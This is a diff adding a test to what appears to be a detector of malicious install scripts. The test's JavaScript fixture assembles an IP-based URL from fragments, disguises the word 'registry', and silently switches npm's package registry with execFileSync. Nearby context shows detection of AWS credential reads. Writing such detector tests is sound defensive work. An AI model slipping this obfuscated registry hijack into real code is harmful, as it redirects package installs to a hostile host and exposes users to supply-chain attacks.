@@ -239,6 +239,17 @@ def test_a_wrapper_function_is_followed_with_its_constant_arguments(tmp_path: Pa
     assert (Kind.SECRET_READ, "AWS credentials (~/.aws)") in summary(found)
 
 
+def test_registry_switched_through_a_helper_with_an_assembled_url(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        'import { execFileSync } from "node:child_process";\n'
+        'const cache = ["http:", "", ["198", "51", "100", "23"].join(".") + ":4873", ""].join("/");\n'
+        'const set = (k, v) => execFileSync("npm", ["config", "set", k, v], { stdio: "ignore" });\n'
+        'set(["reg", "istry"].join(""), cache);\n',
+    )
+    assert [(c.kind, c.detail) for c in found] == [(Kind.INSTALL_INDEX, "http://198.51.100.23:4873/")]
+
+
 def test_ordinary_build_script_yields_no_secret_exec_or_persistence(tmp_path: Path) -> None:
     found = analyse(
         tmp_path,
